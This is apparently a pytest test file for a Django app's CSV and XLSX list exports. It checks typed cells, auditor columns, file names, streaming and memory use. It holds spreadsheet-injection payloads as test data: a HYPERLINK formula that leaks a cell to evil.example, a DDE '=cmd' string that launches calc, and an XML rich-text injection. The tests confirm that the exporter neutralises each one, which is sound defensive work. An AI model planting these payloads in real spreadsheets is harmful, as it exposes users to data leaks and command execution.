"""List exports (CSV and XLSX of every list, qgov/exports.py): plain typed values, no formulas, the
columns an auditor needs, streamed at a fixed number of queries, named after agency, list and day."""

import csv
import datetime
import io
import re
import zoneinfo
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from qgov.choices import RoleChoices
from qgov.exports import bound_columns, csv_cell
from qgov.models import AuditEvent
from risks.services import risk_matrix_ensure
from tests.risks.factories import AssetFactory, ControlFactory, RiskAcceptanceFactory, RiskFactory, ThreatVectorFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def content_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(content_of(response).decode())))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(content_of(response))).active


def by_header(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.fixture
def auditor(agency, member_of):
    risk_matrix_ensure(agency)
    return member_of(agency, RoleChoices.AUDITOR)


# --- formula injection ------------------------------------------------------------------------

@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_csv_neutralises_cells_that_would_start_a_formula(text):
    assert csv_cell(text) == "'" + text


def test_csv_keeps_numbers_and_plain_text():
    assert (csv_cell(-3), csv_cell(2.5), csv_cell("Detector blinding"), csv_cell(None)) == (-3, 2.5,
                                                                                           "Detector blinding", "")


def test_hyperlink_title_is_text_in_csv_and_xlsx(client, agency, auditor):
    RiskFactory(agency=agency, title=HYPERLINK)
    client.force_login(auditor)
    rows = by_header(csv_rows(client.get("/risks/register/", {"export": "csv"})))
    assert rows[0]["Title"] == "'" + HYPERLINK

    sheet = xlsx_sheet(client.get("/risks/register/", {"export": "xlsx"}))
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Title") + 1)
    assert (title.value, title.data_type) == (HYPERLINK, "s")
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


# --- no HTML, typed values ----------------------------------------------------------------------

def test_overdue_review_date_exports_as_a_plain_date(client, agency, auditor):
    risk = RiskFactory(agency=agency, title="Late", inherent_likelihood=2, inherent_impact=5)
    overdue = timezone.localdate() - datetime.timedelta(days=3)
    type(risk).objects.filter(pk=risk.pk).update(review_date=overdue)
    client.force_login(auditor)
    response = client.get("/risks/register/", {"export": "csv"})
    body = content_of(response).decode()
    assert "<" not in body
    assert by_header(list(csv.reader(io.StringIO(body))))[0]["Next review"] == overdue.isoformat()

    sheet = xlsx_sheet(client.get("/risks/register/", {"export": "xlsx"}))
    rows = list(sheet.iter_rows(values_only=True))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Next review"] == datetime.datetime.combine(overdue, datetime.time())  # a date cell
    assert row["Inherent likelihood"] == 2 and row["Inherent impact"] == 5  # numbers, not text
    review = sheet.cell(row=2, column=rows[0].index("Next review") + 1)
    assert review.is_date and review.number_format == "yyyy-mm-dd"


def test_audit_export_has_the_plain_request_id_and_local_iso_times(client, agency, member_of):
    admin = member_of(agency, RoleChoices.ADMIN)
    client.force_login(admin)
    risk_matrix_ensure(agency)
    client.post("/risks/register/add/", {"title": "Audited", "inherent_likelihood": 3, "inherent_impact": 5,
                                         "treatment": "mitigate"})
    event = AuditEvent.objects.filter(request_id__gt="").latest("id")
    rows = by_header(csv_rows(client.get("/audit/", {"export": "csv"})))
    row = next(row for row in rows if row["Sequence"] == str(event.seq))
    assert row["Request id"] == event.request_id
    assert row["Type"] == event.content_type.name == "risk"  # the model's name, read once per content type
    assert "<" not in "".join(value for row in rows for value in row.values())
    expected = event.timestamp.astimezone(zoneinfo.ZoneInfo(agency.time_zone)).replace(microsecond=0)
    assert row["Time"] == expected.isoformat()
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", row["Time"])

    sheet = xlsx_sheet(client.get("/audit/", {"export": "xlsx"}))
    rows = list(sheet.iter_rows(values_only=True))
    time_column = next(i for i, name in enumerate(rows[0]) if name.startswith("Time"))
    assert rows[0][time_column] == f"Time ({agency.time_zone})"
    seq_column = rows[0].index("Sequence")
    row = next(row for row in rows[1:] if row[seq_column] == event.seq)
    assert row[time_column] == expected.replace(tzinfo=None)


# --- the columns an auditor needs -------------------------------------------------------------

def test_risk_export_has_the_auditor_columns(client, agency, auditor):
    tv = ThreatVectorFactory(code="QOP-03")
    asset = AssetFactory(agency=agency, name="Link A")
    control = ControlFactory(agency=agency, title="Rotate keys")
    owner = auditor
    risk = RiskFactory(agency=agency, title="Harvest", description="Recorded today, read in 2035.", owner=owner,
                       inherent_likelihood=4, inherent_impact=5, current_likelihood=3, current_impact=4,
                       residual_likelihood=2, residual_impact=3, treatment="accept")
    risk.threat_vectors.add(tv)
    risk.assets.add(asset)
    risk.controls.add(control)
    valid_until = timezone.localdate() + datetime.timedelta(days=30)
    RiskAcceptanceFactory(agency=agency, risk=risk, status="approved", valid_until=valid_until)
    client.force_login(auditor)
    row = by_header(csv_rows(client.get("/risks/register/", {"export": "csv"})))[0]
    risk.refresh_from_db()
    assert row == {
        "Reference": risk.reference, "Title": "Harvest", "Description": "Recorded today, read in 2035.",
        "Threat vectors": "QOP-03", "Assets": "Link A", "Controls": "Rotate keys",
        "Inherent likelihood": "4", "Inherent impact": "5", "Inherent score": "20",
        "Current likelihood": "3", "Current impact": "4", "Current rating": risk.rating, "Current score": "12",
        "Residual likelihood": "2", "Residual impact": "3", "Residual score": "6",
        "Status": risk.get_status_display(), "Treatment": "Accept", "Owner": str(owner),
        "Next review": "", "Acceptance": "Approved", "Acceptance valid until": valid_until.isoformat(),
    }


# --- file names -------------------------------------------------------------------------------

@pytest.mark.parametrize(("path", "name"), [("/risks/register/", "risks"), ("/audit/", "audit-events"),
                                            ("/certification/devices/", "devices")])
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_file_name_has_agency_code_list_and_date(client, agency, auditor, path, name, export_format):
    client.force_login(auditor)
    response = client.get(path, {"export": export_format})
    today = timezone.localdate(timezone=zoneinfo.ZoneInfo(agency.time_zone))
    assert response["Content-Disposition"] == f'attachment; filename="{agency.code}-{name}-{today}.{export_format}"'


# --- streamed, fixed queries, filters and order kept -------------------------------------------

def test_csv_is_streamed_at_a_fixed_number_of_queries(client, agency, auditor):
    tvs = [ThreatVectorFactory(code=f"QOP-{n:02d}") for n in range(3)]
    assets = [AssetFactory(agency=agency) for _ in range(3)]
    controls = [ControlFactory(agency=agency) for _ in range(3)]
    client.force_login(auditor)

    def add_risks(count):
        for _ in range(count):
            risk = RiskFactory(agency=agency, owner=auditor)
            risk.threat_vectors.set(tvs)
            risk.assets.set(assets)
            risk.controls.set(controls)
            RiskAcceptanceFactory(agency=agency, risk=risk)

    counts = []
    for count in (3, 40):
        add_risks(count)
        for export_format in ("csv", "xlsx"):
            with CaptureQueriesContext(connection) as queries:
                response = client.get("/risks/register/", {"export": export_format})
                content = content_of(response)
            counts.append(len(queries))
            if export_format == "csv":
                assert response.streaming
                assert len(list(csv.reader(io.StringIO(content.decode())))) == 1 + {3: 3, 40: 43}[count]
    assert counts[0] == counts[2] and counts[1] == counts[3], counts
    assert counts[0] <= 12, [q["sql"][:120] for q in queries.captured_queries]


def test_export_keeps_filters_and_ordering(client, agency, auditor):
    for title, status in (("Bravo", "assessed"), ("Alpha", "assessed"), ("Charlie", "closed")):
        RiskFactory(agency=agency, title=title, status=status)
    client.force_login(auditor)
    rows = by_header(csv_rows(client.get("/risks/register/", {"status": "assessed", "sort": "-title",
                                                              "export": "csv"})))
    assert [row["Title"] for row in rows] == ["Bravo", "Alpha"]
    sheet = xlsx_sheet(client.get("/risks/register/", {"status": "assessed", "sort": "title", "export": "xlsx"}))
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Alpha", "Bravo"]


def test_export_needs_the_export_action_and_stays_in_the_agency(client, agency, other_agency, member_of):
    RiskFactory(agency=agency, title="Ours")
    RiskFactory(agency=other_agency, title="Theirs")
    client.force_login(member_of(agency, RoleChoices.VIEWER))
    assert client.get("/risks/register/", {"export": "csv"}).status_code == 403
    assert "Export CSV" not in client.get("/risks/register/").content.decode()
    client.force_login(member_of(agency, RoleChoices.AUDITOR))
    assert [row["Title"] for row in by_header(csv_rows(client.get("/risks/register/", {"export": "csv"})))] == \
        ["Ours"]
    html = client.get("/risks/register/").content.decode()
    assert "export=csv" in html and "export=xlsx" in html


# --- every list ---------------------------------------------------------------------------------

def list_paths():
    """The path of every list page (an ObjectListView) the product routes."""
    from django.urls import get_resolver

    from qgov.views.generic import ObjectListView

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
            else:
                view = getattr(pattern.callback, "view_class", None)
                if view is not None and issubclass(view, ObjectListView) and "<" not in str(pattern.pattern):
                    yield "/" + prefix + str(pattern.pattern)
    return sorted(set(walk(get_resolver().url_patterns)))


def test_every_list_is_exported_in_both_formats(client, agency, member_of):
    from django.contrib.contenttypes.models import ContentType

    from qgov.models import ImportRun
    from risks.models import Risk

    admin = member_of(agency, RoleChoices.ADMIN)
    RiskFactory(agency=agency, title=HYPERLINK)
    ImportRun.objects.create(agency=agency, content_type=ContentType.objects.get_for_model(Risk), requested_by=admin,
                             file_name="=cmd|' /C calc'!A0.csv", sha256="0" * 64, size=10, format="csv")
    client.force_login(admin)
    paths = list_paths()
    assert {"/risks/register/", "/audit/", "/imports/", "/certification/devices/"} <= set(paths), paths
    for path in paths:
        csv_response = client.get(path, {"export": "csv"})
        assert csv_response.status_code == 200, path
        rows = csv_rows(csv_response)
        assert len({len(row) for row in rows}) == 1, path
        assert not [cell for row in rows[1:] for cell in row if cell.startswith("=")], path
        sheet = xlsx_sheet(client.get(path, {"export": "xlsx"}))
        assert [cell.value for cell in sheet[1]][0] == rows[0][0], path
        assert sheet.max_row == len(rows), path
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], path


def test_export_of_a_distinct_filter_keeps_its_order(client, agency, auditor):
    """A filter across a many relation makes the query DISTINCT; sorted by a column the file does not
    read first, each risk still comes once, in the page's order (PostgreSQL is strict here)."""
    tv = ThreatVectorFactory(code="QOP-03", category="qkd_operational")
    other = ThreatVectorFactory(code="QOP-04", category="qkd_operational")
    for title in ("Bravo", "Alpha", "Charlie"):
        RiskFactory(agency=agency, title=title).threat_vectors.set([tv, other])
    client.force_login(auditor)
    params = {"category": "qkd_operational", "sort": "-title"}
    rows = by_header(csv_rows(client.get("/risks/register/", {**params, "export": "csv"})))
    assert [(row["Title"], row["Threat vectors"]) for row in rows] == [
        ("Charlie", "QOP-03; QOP-04"), ("Bravo", "QOP-03; QOP-04"), ("Alpha", "QOP-03; QOP-04")]
    sheet = xlsx_sheet(client.get("/risks/register/", {**params, "export": "xlsx"}))
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Charlie", "Bravo", "Alpha"]


# --- the XLSX file, read back -------------------------------------------------------------------

def test_xlsx_is_a_workbook_with_the_csv_header_typed_cells_and_the_list_as_sheet(client, agency, auditor):
    tvs = [ThreatVectorFactory(code=code) for code in ("QOP-04", "QOP-03")]
    risk = RiskFactory(agency=agency, title="Harvest", inherent_likelihood=4, inherent_impact=5, owner=auditor,
                       treatment="accept")
    risk.threat_vectors.set(tvs)
    review = timezone.localdate() + datetime.timedelta(days=30)
    type(risk).objects.filter(pk=risk.pk).update(review_date=review)
    client.force_login(auditor)
    csv_header = csv_rows(client.get("/risks/register/", {"export": "csv"}))[0]
    workbook = load_workbook(io.BytesIO(content_of(client.get("/risks/register/", {"export": "xlsx"}))))
    assert workbook.sheetnames == ["Risks"]
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == csv_header
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["Title"], row["Threat vectors"], row["Treatment"], row["Owner"]) == (
        "Harvest", "QOP-03; QOP-04", "Accept", auditor.username)
    assert (row["Inherent likelihood"], row["Inherent score"]) == (4, 20)
    assert type(row["Inherent score"]) is int
    cell = sheet.cell(row=2, column=rows[0].index("Next review") + 1)
    assert (cell.value, cell.is_date, cell.number_format) == (
        datetime.datetime.combine(review, datetime.time()), True, "yyyy-mm-dd")
    assert row["Acceptance"] is None and row["Description"] is None  # empty cells, not empty text


@pytest.mark.parametrize("text", ['<r><t>x</t></r></is><f>HYPERLINK("http://evil.example/")</f><is><r><t>y</t></r>',
                                  "<r>&amp; a < b</r>", " spaced ", "bell\x07 and _x0041_"])
def test_xlsx_text_that_looks_like_markup_reads_back_as_itself(client, agency, auditor, text):
    """XlsxWriter copies text of the form <r>…</r> into the sheet's XML as rich text, unescaped: a
    title must neither inject XML (a formula) nor be changed."""
    RiskFactory(agency=agency, title=text)
    client.force_login(auditor)
    sheet = xlsx_sheet(client.get("/risks/register/", {"export": "xlsx"}))
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Title") + 1)
    assert title.data_type == "s"
    if "\x07" in text:  # a control character is dropped; text like Excel's escapes is escaped for Excel
        assert title.value == "bell and _x005F_x0041_"
    else:
        assert title.value == text
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


# --- constant memory, one query for the rows ---------------------------------------------------

def bulk_risks(agency, count, *, owners=(), vectors=()):
    """`count` risks of the agency, written at once (the factories write one at a time)."""
    from risks.models import Risk

    template = RiskFactory(agency=agency, title="Template")
    risks = []
    for n in range(count):
        risk = Risk(**{field.attname: getattr(template, field.attname) for field in Risk._meta.concrete_fields
                       if not field.primary_key})
        risk.reference, risk.title = f"B{template.pk}-{n:05d}", f"Bulk risk {n}: " + "detector blinding " * 5
        risk.owner = owners[n % len(owners)] if owners else None
        risks.append(risk)
    risks = Risk.objects.bulk_create(risks)
    through = Risk.threat_vectors.through
    through.objects.bulk_create([through(risk_id=risk.pk, threatvector_id=vector.pk) for risk in risks
                                 for vector in vectors])
    return count + 1


def traced_download(client, params):
    """(peak of Python allocations while the file is made and read piece by piece, rows)."""
    import tracemalloc

    rows = 0
    tracemalloc.start()
    try:
        response = client.get("/risks/register/", params)
        for piece in (response.streaming_content if response.streaming else [response.content]):
            rows += piece.count(b"\n")
        return tracemalloc.get_traced_memory()[1], rows
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_memory_does_not_grow_with_the_rows(client, agency, auditor, monkeypatch, export_format):
    from qgov import exports

    monkeypatch.setattr(exports, "CHUNK_SIZE", 100)  # several chunks at a test's sizes
    vectors = [ThreatVectorFactory(code=f"QOP-{n:02d}") for n in range(3)]
    client.force_login(auditor)
    params = {"export": export_format}
    peaks = {}
    total = 0
    for count in (300, 2700):
        total += bulk_risks(agency, count, owners=[auditor], vectors=vectors)
        traced_download(client, params)  # warm: first-use caches are not the file's memory
        peaks[total], rows = traced_download(client, params)
        if export_format == "csv":
            assert rows == 1 + total
    small, large = peaks.values()
    # Ten times the rows: the file's memory is a chunk's, not the list's (a held list would add
    # megabytes: about 1 kB a row).
    assert large < small * 1.25 + 300_000, peaks


def test_export_reads_its_rows_in_one_query_however_many_chunks(client, agency, auditor, monkeypatch):
    from qgov import exports

    monkeypatch.setattr(exports, "CHUNK_SIZE", 50)
    vectors = [ThreatVectorFactory(code=f"QOP-{n:02d}") for n in range(2)]
    owners = [auditor]
    client.force_login(auditor)
    counts = []
    for count in (10, 240):  # one chunk, then six
        bulk_risks(agency, count, owners=owners, vectors=vectors)
        with CaptureQueriesContext(connection) as queries:
            rows = csv_rows(client.get("/risks/register/", {"export": "csv"}))
        counts.append(len([q for q in queries.captured_queries if '"risks_risk"' in q["sql"]]))
        assert {row[3] for row in rows[1:] if row[1].startswith("Bulk")} == {"QOP-00; QOP-01"}
    assert counts == [1, 1], counts


def test_related_record_names_are_read_once_per_relation_and_chunk(client, agency, member_of, monkeypatch):
    """A column that names a related record (a control's owner) reads the names of the records a
    chunk refers to in one query, not one per row, and each record only once per file."""
    from qgov import exports
    from risks.models import Control

    monkeypatch.setattr(exports, "CHUNK_SIZE", 20)
    admin = member_of(agency, RoleChoices.ADMIN)
    owners = [member_of(agency, RoleChoices.EDITOR, username=f"owner{n}") for n in range(3)]
    Control.objects.bulk_create([Control(agency=agency, title=f"Control {n:03d}", control_type="preventive",
                                         owner=owners[n % 3]) for n in range(100)])
    client.force_login(admin)
    with CaptureQueriesContext(connection) as queries:
        rows = by_header(csv_rows(client.get("/risks/controls/", {"export": "csv", "sort": "title"})))
    assert [row["Owner"] for row in rows[:4]] == ["owner0", "owner1", "owner2", "owner0"]
    user_queries = [q["sql"] for q in queries.captured_queries if 'FROM "auth_user"' in q["sql"]
                    and '"auth_user"."id" IN' in q["sql"]]
    assert len(user_queries) == 1, user_queries  # the first chunk names all three; later chunks need none


def test_a_property_of_a_related_record_is_read_once_per_record(client, agency, member_of):
    """`content_type__name` (a property of the content type) in the import runs' file: read on each
    content type once, the rows still tuples."""
    from django.contrib.contenttypes.models import ContentType

    from qgov.imports.tables import ImportRunTable
    from qgov.models import ImportRun
    from risks.models import Risk

    admin = member_of(agency, RoleChoices.ADMIN)
    for n in range(3):
        ImportRun.objects.create(agency=agency, content_type=ContentType.objects.get_for_model(Risk),
                                 requested_by=admin, file_name=f"risks-{n}.csv", sha256="0" * 64, size=10, format="csv")
    client.force_login(admin)
    with CaptureQueriesContext(connection) as queries:
        rows = by_header(csv_rows(client.get("/imports/", {"export": "csv"})))
    assert [row["Type"] for row in rows] == ["risk"] * 3
    assert len([q for q in queries.captured_queries if '"django_content_type"' in q["sql"]]) <= 1
    assert next(column for column in bound_columns(ImportRunTable) if column.header == "Type").relation


def test_xlsx_numbers_that_are_not_finite_are_text_not_error_formulas():
    import xlsxwriter

    from qgov import exports

    output = io.BytesIO()
    workbook = xlsxwriter.Workbook(output, exports.XLSX_OPTIONS)
    sheet = workbook.add_worksheet("Numbers")
    write = exports.xlsx_writers(workbook, sheet)
    for column, value in enumerate([float("nan"), float("-inf"), Decimal("2.50"), 7]):
        write[exports.NUMBER](0, column, value)
    workbook.close()
    cells = load_workbook(io.BytesIO(output.getvalue())).active[1]
    assert [(cell.value, cell.data_type) for cell in cells] == [("nan", "s"), ("-inf", "s"), (2.5, "n"), (7, "n")]
